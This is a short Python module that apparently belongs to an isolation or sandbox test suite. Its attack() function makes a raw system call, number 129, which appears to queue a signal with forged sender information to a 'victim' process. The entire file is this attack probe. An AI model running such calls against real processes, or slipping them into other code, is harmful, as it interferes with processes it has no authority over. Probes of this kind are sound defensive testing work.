import ctypes
import struct

import targets
from means import call


def attack():
    info = ctypes.create_string_buffer(struct.pack("iii", 0, 0, -1), 128)
    return call(129, targets.VICTIM, 0, info)
